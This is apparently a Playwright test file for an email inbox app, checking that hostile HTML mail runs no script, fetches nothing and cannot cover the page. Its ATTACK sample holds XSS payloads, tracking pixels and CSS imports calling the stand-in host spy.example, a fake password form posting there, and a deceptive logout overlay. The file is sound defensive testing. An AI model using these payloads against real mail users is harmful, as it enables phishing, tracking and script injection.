"""Hostile mail: nothing of it runs, nothing of it is fetched, nothing of it lies."""

from playwright.sync_api import expect

from tests.journeys.conftest import Post, Sit
from tests.journeys.words import SHOP, row_of, unique

ATTACK = """
<html><head><style>@import url(https://spy.example/a.css); body{background:url(https://spy.example/b)}</style>
<base href="https://spy.example/"><meta http-equiv="refresh" content="0;url=https://spy.example/">
</head><body>
<script>window.parent.hacked = true; window.hacked = true</script>
<img src="https://spy.example/pixel.png" onerror="parent.hacked=true">
<img srcset="https://spy.example/set.png 1x"><svg onload="parent.hacked=true"><script>parent.hacked=true</script></svg>
<a href="javascript:parent.hacked=true" id="trap">Click</a>
<form action="https://spy.example/"><input name="password"><button>Log in</button></form>
<iframe src="https://spy.example/frame"></iframe>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">You are logged out</div>
<table><tr><td>An innocent table</td></tr></table></body></html>
"""
NAME = "<img src=x onerror=window.hacked=true>"


def test_hostile_mail_runs_nothing_fetches_nothing_and_covers_nothing(sit: Sit, post: Post) -> None:
    seat = sit("operator")
    asked: list[str] = []
    seat.context.on("request", lambda request: asked.append(request.url))
    page = seat.open("inbox/unassigned/")
    subject = unique("<script>window.hacked=true</script>")
    post.write(
        SHOP,
        "<script>window.hacked=true</script>",
        subject=subject,
        html=ATTACK,
        sender=f'"{NAME}" <mallory@example.net>',
    )
    row_of(page, subject).click()
    frame = page.frame_locator("[data-mail-frame]")
    expect(frame.locator("table")).to_contain_text("An innocent table")

    assert page.evaluate("window.hacked") is None
    assert not [url for url in asked if "spy.example" in url]
    expect(frame.locator("script, iframe, form, input, base, meta[http-equiv]")).to_have_count(0)
    # Its overlay stays inside its own frame.
    covered = page.evaluate("document.elementFromPoint(5, 5).closest('iframe') !== null")
    assert not covered
    # The name is shown as it was written, not obeyed.
    expect(page.locator("#ticket")).to_contain_text("onerror=window.hacked")


def test_pictures_from_elsewhere_are_fetched_only_when_asked_for(sit: Sit, post: Post) -> None:
    seat = sit("operator")
    asked: list[str] = []
    seat.context.route("**/pixel.png", lambda route: route.fulfill(status=204))
    seat.context.on("request", lambda request: asked.append(request.url))
    page = seat.open("inbox/unassigned/")
    subject = unique("A newsletter")
    html = "<table><tr><td>News</td></tr></table><img src='http://127.0.0.1:9/pixel.png'>"
    post.write(SHOP, "News", subject=subject, html=html)
    row_of(page, subject).click()
    expect(page.frame_locator("[data-mail-frame]").locator("table")).to_be_visible()
    assert not [url for url in asked if "pixel.png" in url]
    with page.expect_request("**/pixel.png"):
        page.locator("[data-show-pictures]").click()
